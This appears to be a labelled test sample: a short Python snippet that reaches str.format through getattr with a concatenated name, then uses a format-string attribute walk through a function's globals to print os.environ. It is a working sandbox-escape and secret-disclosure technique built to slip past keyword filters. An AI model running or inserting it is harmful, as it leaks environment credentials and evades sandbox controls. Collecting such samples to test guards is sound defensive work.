# The unbound method, found by getattr with a built name.
# effect: env
import random
write = getattr(str, "for" + "mat")
print(write("{0.choice.__func__.__globals__[_os].environ}", random.Random()))
